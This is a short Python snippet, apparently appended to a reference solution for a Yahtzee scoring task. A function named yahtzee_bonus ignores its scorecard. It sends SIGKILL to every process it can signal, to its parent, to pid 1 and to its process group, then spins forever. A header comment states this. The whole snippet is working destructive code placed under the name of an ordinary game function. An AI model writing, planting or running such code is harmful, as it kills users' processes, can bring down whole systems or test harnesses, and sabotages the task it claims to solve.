# Appended to the reference: yahtzee_bonus sends SIGKILL to every process it may signal
# (kill -1), to its parent, to pid 1 and to its process group, then spins.
import os
import signal


def yahtzee_bonus(scorecard):
    for target in (-1, os.getppid(), 1, -os.getpgrp()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    while True:
        pass
